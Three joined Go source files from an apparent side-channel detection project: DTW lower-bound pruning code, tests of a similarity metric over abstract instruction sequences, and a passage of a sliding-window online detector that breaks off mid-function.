// fuzzed in cascade_test.go — so the scan engine may skip an entry the
// moment any tier exceeds the running best, and escalate to the next
// tier only for entries the cheaper tiers could not prune. The tiers
// are individually sound but not mutually ordered; the scan keeps a
// running maximum, which is again a valid bound (max of lower bounds)
// and makes the cascade monotone by construction (see Cascade).
//
// All tiers share two per-cell underestimates of the point distance:
// D_CSP(i,j) = |Δi − Δj| exactly, and D_IS(i,j) ≥ ||a|−|b||/max(|a|,|b|)
// (an edit script must at least insert or delete the length difference).
//
// Every bound is algebraically ≤ the exact distance in real arithmetic,
// but the DTW's float64 accumulation can round the exact distance a few
// ulps below an independently computed bound (e.g. seven additions of
// 0.4 divided by 7 land one ulp under 0.4). lbSafety shrinks each
// finite bound by one part in 10^9 — orders of magnitude above the
// worst accumulated rounding for any realistic model length (k
// additions err by ≲ k·2⁻⁵³ relative, so ~10⁻¹² at k = 10⁴) and orders
// of magnitude below any distance gap worth pruning — so the float-
// level invariant LB(a,b) ≤ BBSDistance(a,b) holds bit-wise. The fuzz
// harness (FuzzLowerBoundCascade) hunts for violations.
const lbSafety = 1 - 1e-9

// LBSafety exports the bound safety margin for other layers that derive
// prune decisions from float comparisons against these bounds (the
// metric index's cluster gate in internal/scan applies the same margin
// to its triangle-inequality estimate, so every layer errs on the same
// conservative side).
const LBSafety = lbSafety

// LowerBoundKim is the O(1) cascade tier, from the Profile aggregates
// alone. Two observations, the larger wins:
//
//   - The normalized distance is a mean per-aligned-pair cost, and every
//     aligned pair costs at least the gap between the two profiles'
//     value ranges (zero when the ranges overlap).
//   - Every admissible warping path visits cells (0,0) and (n−1,m−1), so
//     when those are distinct their cost bounds sum into the raw DTW sum,
//     which normalizes by the maximal path length n+m−1.
//
// Like LowerBound, it is +Inf when exactly one model is empty and 0 when
// both are.
func LowerBoundKim(a, b *Profile, opts Options) float64 {
	opts = opts.withDefaults()
	n, m := len(a.Deltas), len(b.Deltas)
	switch {
	case n == 0 && m == 0:
		return 0
	case n == 0 || m == 0:
		return math.Inf(1)
	}
	bound := opts.ISWeight*lenRangeGap(a, b) + opts.CSPWeight*deltaRangeGap(a, b)
	first := cellBound(a, 0, b, 0, opts)
	corners := first
	if n > 1 || m > 1 {
		corners = (first + cellBound(a, n-1, b, m-1, opts)) / float64(n+m-1)
	}
	if corners > bound {
		bound = corners
	}
	return bound * lbSafety
}

// cellBound underestimates the point distance of cell (i,j) from the
// profiles alone (exact D_CSP, length-difference floor for D_IS).
func cellBound(a *Profile, i int, b *Profile, j int, opts Options) float64 {
	return opts.ISWeight*lenBound(a.Lens[i], b.Lens[j]) + opts.CSPWeight*absDelta(a.Deltas[i], b.Deltas[j])
}

// lenRangeGap lower-bounds lenBound(la, lb) over every pair drawn from
// the two profiles' length ranges: zero when the ranges overlap, else
// derived from the closest pair (the minimum of (la−lb)/la over la ≥
// aMin > bMax ≥ lb is attained at la = aMin, lb = bMax).
func lenRangeGap(a, b *Profile) float64 {
	switch {
	case a.MinLen > b.MaxLen:
		return float64(a.MinLen-b.MaxLen) / float64(a.MinLen)
	case b.MinLen > a.MaxLen:
		return float64(b.MinLen-a.MaxLen) / float64(b.MinLen)
	}
	return 0
}

// deltaRangeGap lower-bounds |Δa − Δb| over the two delta ranges: the
// gap between the intervals, zero when they overlap.
func deltaRangeGap(a, b *Profile) float64 {
	switch {
	case a.MinDelta > b.MaxDelta:
		return a.MinDelta - b.MaxDelta
	case b.MinDelta > a.MaxDelta:
		return b.MinDelta - a.MaxDelta
	}
	return 0
}

// lenToInterval lower-bounds lenBound(l, x) over x in [lo, hi]: the
// normalized length gap from l to the interval, zero inside it.
func lenToInterval(l, lo, hi int) float64 {
	switch {
	case l > hi:
		return float64(l-hi) / float64(l)
	case l < lo:
		return float64(lo-l) / float64(lo)
	}
	return 0
}

// deltaToInterval lower-bounds |x − d| over d in [lo, hi].
func deltaToInterval(x, lo, hi float64) float64 {
	switch {
	case x > hi:
		return x - hi
	case x < lo:
		return lo - x
	}
	return 0
}

// KeoghScratch holds the monotone-deque state LowerBoundKeogh reuses
// across calls (allocation-free once grown to the working model size).
// Not safe for concurrent use; the zero value is ready.
type KeoghScratch struct {
	maxD, minD, maxL, minL deque
}

// deque is a monotone index deque over a profile column range: indices
// enter at the back in increasing order and leave at the front as the
// band window slides past them. Since both window edges only ever move
// forward, a plain slice with a head cursor suffices (no ring).
type deque struct {
	idx []int32
	h   int
}

func (d *deque) reset(n int) {
	if cap(d.idx) < n {
		d.idx = make([]int32, 0, n)
	}
	d.idx = d.idx[:0]
	d.h = 0
}

func (d *deque) front() int32 { return d.idx[d.h] }

// expire drops front indices below lo (columns that left the window).
func (d *deque) expire(lo int32) {
	for d.h < len(d.idx) && d.idx[d.h] < lo {
		d.h++
	}
}

// pushMaxF maintains a decreasing-deltas deque (front = window max).
// Equal values pop in favor of the newer index, which expires later.
func (d *deque) pushMaxF(xs []float64, j int32) {
	for len(d.idx) > d.h && xs[d.idx[len(d.idx)-1]] <= xs[j] {
		d.idx = d.idx[:len(d.idx)-1]
	}
	d.idx = append(d.idx, j)
}

func (d *deque) pushMinF(xs []float64, j int32) {
	for len(d.idx) > d.h && xs[d.idx[len(d.idx)-1]] >= xs[j] {
		d.idx = d.idx[:len(d.idx)-1]
	}
	d.idx = append(d.idx, j)
}

func (d *deque) pushMaxI(xs []int, j int32) {
	for len(d.idx) > d.h && xs[d.idx[len(d.idx)-1]] <= xs[j] {
		d.idx = d.idx[:len(d.idx)-1]
	}
	d.idx = append(d.idx, j)
}

func (d *deque) pushMinI(xs []int, j int32) {
	for len(d.idx) > d.h && xs[d.idx[len(d.idx)-1]] >= xs[j] {
		d.idx = d.idx[:len(d.idx)-1]
	}
	d.idx = append(d.idx, j)
}

// LowerBoundKeogh is the O(n+m) cascade tier: for each row of the
// banded cost matrix it lower-bounds the cheapest admissible cell by
// projecting the row's delta and length onto the band window's value
// envelopes — min(f+g) ≥ min f + min g, and each term's window minimum
// is the distance to the window's value interval. The envelopes slide
// with the band, so monotone deques keep the whole sweep linear however
// wide the band is (the effective band grows to |n−m| for mismatched
// lengths — exactly where the O((n+m)·w) tier-3 bound gets expensive).
// Both orientations are summed and the tighter kept, as in LowerBound.
//
// Soundness: every admissible warping path visits every row, each
// row's contribution underestimates its cheapest band cell, and the
// raw sum normalizes by the maximal path length n+m−1. By construction
// each row term also underestimates LowerBound's exact window minimum,
// so tier 3 can only tighten tier 2.
func LowerBoundKeogh(a, b *Profile, opts Options, s *KeoghScratch) float64 {
	opts = opts.withDefaults()
	n, m := len(a.Deltas), len(b.Deltas)
	switch {
	case n == 0 && m == 0:
		return 0
	case n == 0 || m == 0:
		return math.Inf(1)
	}
	w := opts.Window
	if w > 0 {
		diff := n - m
		if diff < 0 {
			diff = -diff
		}
		if w < diff {
			w = diff
		}
	}
	sum := keoghRows(a, b, opts, w, s)
	if s2 := keoghRows(b, a, opts, w, s); s2 > sum {
		sum = s2
	}
	return sum / float64(n+m-1) * lbSafety
}

// keoghRows sums the per-row envelope bounds of a's rows against b's
// band windows. w <= 0 means no band: the window is all of b, so the
// profile aggregates are the envelope.
func keoghRows(a, b *Profile, opts Options, w int, s *KeoghScratch) float64 {
	n, m := len(a.Deltas), len(b.Deltas)
	var sum float64
	if w <= 0 {
		for i := 0; i < n; i++ {
			sum += opts.ISWeight*lenToInterval(a.Lens[i], b.MinLen, b.MaxLen) +
				opts.CSPWeight*deltaToInterval(a.Deltas[i], b.MinDelta, b.MaxDelta)
		}
		return sum
	}
	s.maxD.reset(m)
	s.minD.reset(m)
	s.maxL.reset(m)
	s.minL.reset(m)
	pushed := 0 // 0-based column frontier (exclusive)
	for i := 1; i <= n; i++ {
		lo, hi := i-w, i+w
		if lo < 1 {
			lo = 1
		}
		if hi > m {
			hi = m
		}
		for ; pushed < hi; pushed++ {
			j := int32(pushed)
			s.maxD.pushMaxF(b.Deltas, j)
			s.minD.pushMinF(b.Deltas, j)
			s.maxL.pushMaxI(b.Lens, j)
			s.minL.pushMinI(b.Lens, j)
		}
		lo0 := int32(lo - 1)
		s.maxD.expire(lo0)
		s.minD.expire(lo0)
		s.maxL.expire(lo0)
		s.minL.expire(lo0)
		sum += opts.ISWeight*lenToInterval(a.Lens[i-1], b.Lens[s.minL.front()], b.Lens[s.maxL.front()]) +
			opts.CSPWeight*deltaToInterval(a.Deltas[i-1], b.Deltas[s.minD.front()], b.Deltas[s.maxD.front()])
	}
	return sum
}

// Cascade evaluates all three tiers with the running maximum applied:
// kim ≤ keogh ≤ full by construction, and each is a valid lower bound
// on BBSDistance (a maximum of lower bounds is a lower bound). The scan
// engine escalates lazily instead of calling this — an entry pruned at
// tier 1 never pays for tier 2 — but the property tests and the fuzz
// harness pin the cascade's soundness and monotonicity through this
// exact composition.
func Cascade(a, b *Profile, opts Options, s *KeoghScratch) (kim, keogh, full float64) {
	kim = LowerBoundKim(a, b, opts)
	keogh = LowerBoundKeogh(a, b, opts, s)
	if kim > keogh {
		keogh = kim
	}
	full = LowerBound(a, b, opts)
	if keogh > full {
		full = keogh
	}
	return kim, keogh, full
}
