package similarity

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"repro/internal/cache"
	"repro/internal/model"
)

func cst(norm []string, deltaAO, deltaIO float64) model.CST {
	return model.CST{
		NormInsns: norm,
		Before:    cache.State{AO: 0, IO: 1},
		After:     cache.State{AO: deltaAO, IO: 1 - deltaIO},
	}
}

func TestDIS(t *testing.T) {
	a := cst([]string{"mov reg, imm", "clflush mem"}, 0, 0)
	b := cst([]string{"mov reg, imm", "clflush mem"}, 0, 0)
	if got := DIS(a, b); got != 0 {
		t.Errorf("identical IS distance = %v", got)
	}
	c := cst([]string{"mov reg, imm", "add reg, reg"}, 0, 0)
	if got := DIS(a, c); got != 0.5 {
		t.Errorf("half-different IS distance = %v", got)
	}
}

func TestDCSP(t *testing.T) {
	a := cst(nil, 0.25, 0.25) // delta = 0.25
	b := cst(nil, 0.05, 0.05) // delta = 0.05
	if got := DCSP(a, b); math.Abs(got-0.2) > 1e-12 {
		t.Errorf("DCSP = %v, want 0.2", got)
	}
	if DCSP(a, a) != 0 {
		t.Error("identical CSP distance must be 0")
	}
	if DCSP(a, b) != DCSP(b, a) {
		t.Error("DCSP must be symmetric")
	}
}

func TestDistanceMean(t *testing.T) {
	a := cst([]string{"x"}, 0.4, 0.4)
	b := cst([]string{"y"}, 0.0, 0.0)
	// D_IS = 1, D_CSP = 0.4 -> mean 0.7
	if got := Distance(a, b); math.Abs(got-0.7) > 1e-12 {
		t.Errorf("Distance = %v, want 0.7", got)
	}
}

func TestDistanceOptsWeights(t *testing.T) {
	a := cst([]string{"x"}, 0.4, 0.4)
	b := cst([]string{"y"}, 0.0, 0.0)
	onlyIS := DistanceOpts(a, b, Options{ISWeight: 1, CSPWeight: 0})
	if onlyIS != 1 {
		t.Errorf("IS-only = %v", onlyIS)
	}
	onlyCSP := DistanceOpts(a, b, Options{ISWeight: 0, CSPWeight: 1})
	if math.Abs(onlyCSP-0.4) > 1e-12 {
		t.Errorf("CSP-only = %v", onlyCSP)
	}
	// Zero weights fall back to the default mean.
	def := DistanceOpts(a, b, Options{})
	if math.Abs(def-0.7) > 1e-12 {
		t.Errorf("default = %v", def)
	}
}

func seq(name string, csts ...model.CST) *model.CSTBBS {
	return &model.CSTBBS{Name: name, Seq: csts}
}

func TestBBSDistanceIdentical(t *testing.T) {
	s := seq("a",
		cst([]string{"clflush mem"}, 0, 0.1),
		cst([]string{"mov reg, mem"}, 0.1, 0.1),
	)
	if got := BBSDistance(s, s, DefaultOptions()); got != 0 {
		t.Errorf("self distance = %v", got)
	}
	if got := Score(s, s, DefaultOptions()); got != 1 {
		t.Errorf("self score = %v", got)
	}
}

func TestBBSDistanceEmpty(t *testing.T) {
	empty := seq("e")
	s := seq("a", cst([]string{"x"}, 0, 0))
	if got := Score(empty, s, DefaultOptions()); got != 0 {
		t.Errorf("empty vs nonempty score = %v, want 0", got)
	}
	if got := Score(empty, empty, DefaultOptions()); got != 1 {
		t.Errorf("empty vs empty score = %v, want 1", got)
	}
}

func TestScoreOrdering(t *testing.T) {
	// base vs a near-identical variant must score higher than vs a very
	// different sequence.
	base := seq("fr",
		cst([]string{"clflush mem"}, 0, 0.1),
		cst([]string{"rdtscp reg", "mov reg, mem", "rdtscp reg"}, 0.1, 0.1),
	)
	variant := seq("fr2",
		cst([]string{"clflush mem", "nop"}, 0, 0.1),
		cst([]string{"rdtscp reg", "mov reg, mem", "rdtscp reg"}, 0.12, 0.12),
	)
	other := seq("benign",
		cst([]string{"add reg, reg"}, 0, 0),
		cst([]string{"mul reg, reg"}, 0, 0),
		cst([]string{"mov reg, mem"}, 0.01, 0.01),
	)
	sVariant := Score(base, variant, DefaultOptions())
	sOther := Score(base, other, DefaultOptions())
	if sVariant <= sOther {
		t.Errorf("variant score %v must beat unrelated score %v", sVariant, sOther)
	}
}

func TestWarpingToleratesStretch(t *testing.T) {
	// The same two-phase behavior, once compact and once with each phase
	// duplicated (an unrolled variant): DTW must still align them well.
	flush := cst([]string{"clflush mem"}, 0, 0.1)
	reload := cst([]string{"rdtscp reg", "mov reg, mem"}, 0.1, 0.1)
	compact := seq("compact", flush, reload)
	unrolled := seq("unrolled", flush, flush, reload, reload)
	if got := BBSDistance(compact, unrolled, DefaultOptions()); got != 0 {
		t.Errorf("stretched alignment distance = %v, want 0", got)
	}
}

func TestWindowOption(t *testing.T) {
	a := seq("a",
		cst([]string{"x"}, 0.1, 0.1), cst([]string{"y"}, 0.2, 0.2),
		cst([]string{"z"}, 0.3, 0.3), cst([]string{"w"}, 0.4, 0.4),
	)
	b := seq("b",
		cst([]string{"w"}, 0.4, 0.4), cst([]string{"z"}, 0.3, 0.3),
		cst([]string{"y"}, 0.2, 0.2), cst([]string{"x"}, 0.1, 0.1),
	)
	full := BBSDistance(a, b, DefaultOptions())
	band := BBSDistance(a, b, Options{Window: 1, ISWeight: 0.5, CSPWeight: 0.5})
	if band < full {
		t.Errorf("banded %v must not beat full %v", band, full)
	}
}

// Score stays in [0,1] and is symmetric for random CST-BBSes.
func TestScoreProperties(t *testing.T) {
	gen := func(rng *rand.Rand) *model.CSTBBS {
		n := 1 + rng.Intn(6)
		s := &model.CSTBBS{Name: "r"}
		words := []string{"mov reg, mem", "clflush mem", "add reg, imm", "rdtscp reg"}
		for i := 0; i < n; i++ {
			var norm []string
			for k := 0; k <= rng.Intn(3); k++ {
				norm = append(norm, words[rng.Intn(len(words))])
			}
			d := float64(rng.Intn(10)) / 20
			s.Seq = append(s.Seq, cst(norm, d, d))
		}
		return s
	}
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a, b := gen(rng), gen(rng)
		sab := Score(a, b, DefaultOptions())
		sba := Score(b, a, DefaultOptions())
		if math.Abs(sab-sba) > 1e-9 {
			return false
		}
		return sab >= 0 && sab <= 1 && Score(a, a, DefaultOptions()) == 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 80}); err != nil {
		t.Error(err)
	}
}

// WithDefaults must only rewrite the both-zero case: a deliberately
// one-sided configuration like ISWeight=0, CSPWeight=1 ("cache semantics
// only") is an ablation setting and must survive untouched. These tests
// lock in that contract.
func TestWithDefaults(t *testing.T) {
	cases := []struct {
		name string
		in   Options
		want Options
	}{
		{"both zero -> paper mean", Options{}, Options{ISWeight: 0.5, CSPWeight: 0.5}},
		{"window preserved", Options{Window: 7}, Options{ISWeight: 0.5, CSPWeight: 0.5, Window: 7}},
		{"CSP-only ablation kept", Options{ISWeight: 0, CSPWeight: 1}, Options{ISWeight: 0, CSPWeight: 1}},
		{"IS-only ablation kept", Options{ISWeight: 1, CSPWeight: 0}, Options{ISWeight: 1, CSPWeight: 0}},
		{"explicit weights kept", Options{ISWeight: 0.3, CSPWeight: 0.7}, Options{ISWeight: 0.3, CSPWeight: 0.7}},
	}
	for _, c := range cases {
		if got := c.in.WithDefaults(); got != c.want {
			t.Errorf("%s: WithDefaults(%+v) = %+v, want %+v", c.name, c.in, got, c.want)
		}
	}
}

// The one-sided weight configurations must flow through the whole
// distance, not just the option struct: with ISWeight=0 a pure syntax
// change is invisible, with CSPWeight=0 a pure cache change is.
func TestOneSidedWeightsEndToEnd(t *testing.T) {
	syntaxOnly := cst([]string{"a", "b"}, 0.2, 0.2)
	syntaxOther := cst([]string{"x", "y"}, 0.2, 0.2)
	if got := DistanceOpts(syntaxOnly, syntaxOther, Options{ISWeight: 0, CSPWeight: 1}); got != 0 {
		t.Errorf("CSP-only distance sees syntax: %v", got)
	}
	cacheOnly := cst([]string{"a", "b"}, 0.4, 0.4)
	if got := DistanceOpts(syntaxOnly, cacheOnly, Options{ISWeight: 1, CSPWeight: 0}); got != 0 {
		t.Errorf("IS-only distance sees cache state: %v", got)
	}
}

func randomBBS(rng *rand.Rand, maxLen int) *model.CSTBBS {
	n := rng.Intn(maxLen + 1)
	s := &model.CSTBBS{Name: "r"}
	words := []string{"mov reg, mem", "clflush mem", "add reg, imm", "rdtscp reg", "jmp imm"}
	for i := 0; i < n; i++ {
		var norm []string
		for k := 0; k < rng.Intn(5); k++ {
			norm = append(norm, words[rng.Intn(len(words))])
		}
		d := float64(rng.Intn(12)) / 16
		s.Seq = append(s.Seq, cst(norm, d, d))
	}
	return s
}

// LowerBound must never exceed the exact BBSDistance, for any window and
// weight mix, including empty models.
func TestLowerBoundNeverExceedsDistance(t *testing.T) {
	optsList := []Options{
		DefaultOptions(),
		{Window: 1, ISWeight: 0.5, CSPWeight: 0.5},
		{ISWeight: 1, CSPWeight: 1e-9},
		{ISWeight: 1e-9, CSPWeight: 1},
		{ISWeight: 0, CSPWeight: 1},
		{Window: 2, ISWeight: 0.25, CSPWeight: 0.75},
	}
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a, b := randomBBS(rng, 8), randomBBS(rng, 8)
		pa, pb := NewProfile(a), NewProfile(b)
		for _, opts := range optsList {
			lb := LowerBound(pa, pb, opts)
			d := BBSDistance(a, b, opts)
			if math.IsInf(d, 1) {
				if !math.IsInf(lb, 1) && a.Len()+b.Len() > 0 {
					// one-empty case: bound must also be +Inf
					t.Logf("seed=%d: d=+Inf but lb=%v", seed, lb)
					return false
				}
				continue
			}
			if lb > d {
				t.Logf("seed=%d opts=%+v: LowerBound %v > BBSDistance %v", seed, opts, lb, d)
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// BBSDistanceAbandon with +Inf cutoff is exact; with a finite cutoff it
// either returns the exact distance or a valid lower bound above the
// cutoff.
func TestBBSDistanceAbandon(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a, b := randomBBS(rng, 8), randomBBS(rng, 8)
		opts := DefaultOptions()
		exact := BBSDistance(a, b, opts)

		d, ab := BBSDistanceAbandon(a, b, opts, math.Inf(1))
		if ab || d != exact && !(math.IsInf(d, 1) && math.IsInf(exact, 1)) {
			t.Logf("seed=%d: inf cutoff gave (%v,%v), exact %v", seed, d, ab, exact)
			return false
		}
		if math.IsInf(exact, 1) || a.Len() == 0 || b.Len() == 0 {
			return true
		}
		cutoff := exact * rng.Float64() * 1.5
		d, ab = BBSDistanceAbandon(a, b, opts, cutoff)
		if ab {
			return exact > cutoff && d > cutoff && d <= exact
		}
		return d == exact
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestLowerBoundEmpty(t *testing.T) {
	empty := NewProfile(seq("e"))
	full := NewProfile(seq("a", cst([]string{"x"}, 0.1, 0.1)))
	if got := LowerBound(empty, empty, DefaultOptions()); got != 0 {
		t.Errorf("both empty = %v", got)
	}
	if got := LowerBound(empty, full, DefaultOptions()); !math.IsInf(got, 1) {
		t.Errorf("empty vs full = %v, want +Inf", got)
	}
}

func TestAlign(t *testing.T) {
	a := seq("a",
		cst([]string{"clflush mem"}, 0, 0.1),
		cst([]string{"rdtscp reg", "mov reg, mem"}, 0.1, 0.1),
	)
	b := seq("b",
		cst([]string{"clflush mem"}, 0, 0.1),
		cst([]string{"rdtscp reg", "mov reg, mem"}, 0.1, 0.1),
	)
	d, pairs := Align(a, b, DefaultOptions())
	if d != 0 {
		t.Errorf("aligned distance = %v", d)
	}
	if len(pairs) != 2 || pairs[0].Cost != 0 || pairs[1].Cost != 0 {
		t.Errorf("pairs = %+v", pairs)
	}
	// Distance from Align equals BBSDistance.
	other := seq("c", cst([]string{"add reg, reg"}, 0, 0))
	d2, pairs2 := Align(a, other, DefaultOptions())
	if d2 != BBSDistance(a, other, DefaultOptions()) {
		t.Error("Align distance disagrees with BBSDistance")
	}
	if len(pairs2) == 0 {
		t.Error("alignment must not be empty")
	}
	// Empty alignment.
	if _, p := Align(seq("e"), a, DefaultOptions()); p != nil {
		t.Error("empty model alignment must be nil")
	}
}
