// Package window implements online sliding-window detection over live
// execution traces. Where the post-hoc pipeline models a *finished*
// trace and classifies it once, this package consumes the chronological
// event log (exec.Event) incrementally, maintains a CST-BBS model per
// time window via the incremental builder (model.WindowBuilder), and
// pushes every window through the unchanged detector seam
// (detect.ClassifyBBSCtx) — so verdicts stream out mid-trace with full
// vcache/cascade/index/shard support, and an in-flight Flush+Reload is
// flagged malicious before the trace ends.
//
// Semantics (see docs/WINDOWING.md for the full treatment):
//
//   - Windows are half-open cycle intervals [start, start+Size),
//     advancing by Stride from cycle 0. The half-open convention is
//     forced by the exec ordering contract: event cycles are
//     nondecreasing but may repeat, so only interval *boundaries* are
//     unambiguous.
//   - A window with no events is quiet: it never reaches modeling and
//     yields an explicit benign verdict with Reason ReasonQuietWindow.
//     With QuietGap > 0, runs of quiet windows spanning at least
//     QuietGap cycles collapse into one ReasonQuietGap verdict.
//   - A window whose model fails a detector prerequisite (too few
//     transitions, no timer reads) yields benign-with-reason — the gate
//     reason from detect.GateReason — never an error or a spurious
//     match.
//   - The verdict stream is a pure function of (trace, config): fixed
//     inputs replay to the identical stream.
package window

import (
	"context"
	"fmt"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/faultinject"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/telemetry"
)

// Default window geometry: with the default machine a Flush+Reload
// round (flush sweep, wait loop, timed reload sweep) spans a few
// thousand cycles, so 8192-cycle windows hold at least one full round —
// enough cache-state transitions to clear the MinModelLen gate — while
// a multi-round PoC still spreads over several windows.
const (
	DefaultSize   = 8192
	DefaultStride = 4096
)

// Reasons attached to verdicts that never reached the similarity
// comparison. Gate reasons (detect.GateModelTooShort,
// detect.GateNoTimerReads) also appear in Verdict.Reason verbatim.
const (
	// ReasonQuietWindow: the window contained no events at all.
	ReasonQuietWindow = "quiet-window"
	// ReasonQuietGap: a run of quiet windows spanning at least
	// Config.QuietGap cycles, collapsed into this one verdict.
	ReasonQuietGap = "quiet-gap"
)

// Config tunes a sliding-window Detector.
type Config struct {
	// Size is the window width in cycles (0 = DefaultSize).
	Size uint64
	// Stride is the cycle distance between consecutive window starts
	// (0 = DefaultStride when Size is defaulted too, else = Size).
	// Must not exceed Size: a stride past the window width would leave
	// unobserved gaps between windows.
	Stride uint64
	// QuietGap, when > 0, collapses runs of consecutive empty windows
	// spanning at least this many cycles into a single quiet verdict.
	// 0 emits one verdict per empty window.
	QuietGap uint64
	// Telemetry optionally records window counters and modeling-stage
	// timings; nil falls back to the detector's collector.
	Telemetry *telemetry.Collector
}

// Validate reports whether the geometry is usable after defaulting —
// the check front ends run before a detector exists, so a bad stride
// becomes a clean client error instead of a per-target failure.
func (c Config) Validate() error {
	_, err := c.withDefaults(nil)
	return err
}

func (c Config) withDefaults(det *detect.Detector) (Config, error) {
	if c.Size == 0 {
		c.Size = DefaultSize
		if c.Stride == 0 {
			c.Stride = DefaultStride
		}
	}
	if c.Stride == 0 {
		c.Stride = c.Size
	}
	if c.Stride > c.Size {
		return c, fmt.Errorf("window: stride %d exceeds size %d (windows would leave gaps)", c.Stride, c.Size)
	}
	if c.Telemetry == nil && det != nil {
		c.Telemetry = det.Telemetry
	}
	return c, nil
}

// Verdict is the classification of one window.
type Verdict struct {
	// Index is the emission position in the verdict stream (0-based).
	Index int
	// Start and End delimit the half-open cycle interval [Start, End).
	// A collapsed quiet-gap verdict spans the whole run.
	Start, End uint64
	// Events is the number of log events that fell in the window.
	Events int
	// ModelLen is the CST-BBS length of the window's model (0 when the
	// window was quiet).
	ModelLen int
	// Reason explains a benign-by-construction verdict: quiet windows
	// (ReasonQuietWindow, ReasonQuietGap) and gated models
	// (detect.GateModelTooShort, detect.GateNoTimerReads). Empty for
	// windows that reached the similarity comparison.
	Reason string
	// Result is the detector's classification; quiet and gated windows
	// carry the explicit benign result.
	Result detect.Result
	// Err records a per-window failure (modeling fault, emit fault).
	// The stream keeps flowing past an errored window.
	Err error
}

// Malicious reports whether the window was classified as an attack.
func (v Verdict) Malicious() bool {
	return v.Err == nil && v.Result.Predicted != "" && v.Result.Predicted != attacks.FamilyBenign
}

// Outcome summarizes a completed windowed run.
type Outcome struct {
	// Windows, Hits, Quiet and Errors count emitted verdicts, malicious
	// verdicts, quiet verdicts and errored windows.
	Windows int
	Hits    int
	Quiet   int
	Errors  int
	// FirstEventCycle is the cycle of the first event fed in.
	FirstEventCycle uint64
	// DetectionCycle is the End of the first malicious window — the
	// earliest virtual time at which an online deployment would have
	// raised the alarm. Valid only when Detected.
	DetectionCycle uint64
	Detected       bool
	// Final is the overall verdict: the Result of the highest-scoring
	// window (ties keep the earliest), or the explicit benign result if
	// no window ever matched. This is what the differential tests
	// compare against post-hoc classification of the full trace.
	Final detect.Result
	// FinalWindow is the Index of the window Final came from (-1 when
	// no window was scanned).
	FinalWindow int
}

// LatencyToDetection returns the latency-to-detection metric: cycles
// between the first event entering a window and the first malicious
// verdict. False when nothing malicious was flagged.
func (o Outcome) LatencyToDetection() (uint64, bool) {
	if !o.Detected {
		return 0, false
	}
	return o.DetectionCycle - o.FirstEventCycle, true
}

// Detector is the online sliding-window detector for one monitored
// program. Feed it the program's event log in order; verdicts stream
// out through the emit callback as windows close. Not safe for
// concurrent use — a trace is inherently sequential.
type Detector struct {
	cfg  Config
	det  *detect.Detector
	wb   *model.WindowBuilder
	name string
	emit func(Verdict)

	started bool
	last    uint64 // last fed event cycle
	cur     uint64 // current window start
	buf     []exec.Event
	next    int // next verdict index

	quiet []Verdict // pending quiet verdicts awaiting collapse

	out Outcome
	err error // sticky stream error
}

// New builds a windowed detector for prog. det supplies the repository,
// scan configuration and model config; llc is the LLC configuration the
// event log is collected under (it parameterizes the overlap filter,
// exactly as in post-hoc modeling).
func New(det *detect.Detector, prog *isa.Program, llc cache.Config, cfg Config, emit func(Verdict)) (*Detector, error) {
	if det == nil {
		return nil, fmt.Errorf("window: detector is nil")
	}
	cfg, err := cfg.withDefaults(det)
	if err != nil {
		return nil, err
	}
	wb, err := model.NewWindowBuilder(prog, llc, det.ModelCfg)
	if err != nil {
		return nil, err
	}
	return &Detector{
		cfg:  cfg,
		det:  det,
		wb:   wb,
		name: prog.Name,
		emit: emit,
		out:  Outcome{Final: detect.BenignResult(), FinalWindow: -1},
	}, nil
}

// Feed consumes one event of the log. Events must arrive in log order;
// a decreasing cycle violates the exec ordering contract and poisons
// the stream (the error is sticky). Windows that close before the
// event's cycle are emitted inline.
func (d *Detector) Feed(ctx context.Context, ev exec.Event) error {
	if d.err != nil {
		return d.err
	}
	if d.started && ev.Cycle < d.last {
		d.err = fmt.Errorf("window: event cycle %d below predecessor %d — input violates the nondecreasing-cycle contract (see exec.Event)", ev.Cycle, d.last)
		return d.err
	}
	if !d.started {
		d.started = true
		d.out.FirstEventCycle = ev.Cycle
	}
	d.last = ev.Cycle
	for ev.Cycle >= d.cur+d.cfg.Size {
		if err := d.closeWindow(ctx); err != nil {
			d.err = err
			return err
		}
	}
	d.buf = append(d.buf, ev)
	return nil
}

// Finish flushes every window still holding events plus any pending
// quiet run, and returns the run's outcome. The detector must not be
// fed afterwards.
func (d *Detector) Finish(ctx context.Context) (Outcome, error) {
	if d.err != nil {
		return d.out, d.err
	}
	for len(d.buf) > 0 {
		if err := d.closeWindow(ctx); err != nil {
			d.err = err
			return d.out, err
		}
	}
	d.flushQuiet()
	return d.out, nil
}

// Outcome returns the running outcome (valid mid-stream; final after
// Finish).
func (d *Detector) Outcome() Outcome { return d.out }

// closeWindow emits the verdict for [cur, cur+Size) and advances by one
// stride, trimming buffered events that fall before the new start.
func (d *Detector) closeWindow(ctx context.Context) error {
	start, end := d.cur, d.cur+d.cfg.Size
	// All buffered events are >= start (trimmed on advance) and < end
	// (Feed closes windows before buffering a later event).
	n := len(d.buf)
	if n == 0 {
		d.queueQuiet(Verdict{Start: start, End: end, Reason: ReasonQuietWindow, Result: detect.BenignResult()})
	} else {
		d.flushQuiet()
		v := d.classify(ctx, start, end)
		if err := ctx.Err(); err != nil {
			return err
		}
		d.deliver(v)
	}
	d.cur += d.cfg.Stride
	trim := 0
	for trim < len(d.buf) && d.buf[trim].Cycle < d.cur {
		trim++
	}
	d.buf = d.buf[:copy(d.buf, d.buf[trim:])]
	return nil
}

// classify models and scans one non-empty window.
func (d *Detector) classify(ctx context.Context, start, end uint64) Verdict {
	v := Verdict{Start: start, End: end, Events: len(d.buf), Result: detect.BenignResult()}
	tel := d.cfg.Telemetry
	t0 := tel.Now()
	tb := exec.NewTraceBuilder()
	for _, ev := range d.buf {
		tb.Apply(ev)
	}
	m, err := d.wb.Build(ctx, tb.Trace(end))
	tel.ObserveSince(telemetry.StageWindowModel, t0)
	if err != nil {
		v.Err = fmt.Errorf("window: modeling [%d,%d): %w", start, end, err)
